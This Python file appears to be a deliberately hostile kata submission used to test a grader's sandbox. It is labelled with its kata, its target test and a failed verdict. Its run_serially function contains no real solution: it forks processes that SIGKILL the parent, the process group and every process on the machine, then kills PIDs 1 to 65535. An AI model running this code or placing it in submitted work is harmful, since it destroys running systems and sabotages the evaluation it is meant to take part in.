"""Kills its parent, its group and everybody whom it may.

Kata: a1
Test: test_results_come_in_the_order_of_the_tasks
Verdict: ended, failed
Sandbox: needed
"""

import contextlib
import os
import signal


def run_serially(tasks):
    for kill in (
        lambda: os.kill(os.getppid(), signal.SIGKILL),
        lambda: os.killpg(os.getpgrp(), signal.SIGKILL),
        lambda: os.kill(-1, signal.SIGKILL),
    ):
        if os.fork() == 0:
            kill()
            os._exit(0)
    for pid in range(1, 1 << 16):
        if pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    return []
